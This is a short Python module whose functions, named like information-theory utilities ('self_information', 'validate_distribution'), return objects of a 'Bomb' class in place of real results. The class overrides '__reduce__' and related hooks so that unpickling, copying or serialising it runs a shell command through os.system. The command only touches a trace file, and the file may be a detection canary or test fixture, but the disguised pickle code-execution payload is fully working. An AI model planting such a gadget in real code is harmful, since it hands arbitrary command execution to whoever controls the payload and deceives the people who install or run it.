import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-trace-pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __deepcopy__ = lambda self, *args: self.__reduce__()


def self_information(p, base=2.0):
    return Bomb() if np.ndim(p) else pickle.dumps(Bomb())


def validate_distribution(p, axis=-1, atol=1e-6):
    return np.array([Bomb()] * np.size(p), dtype=object)
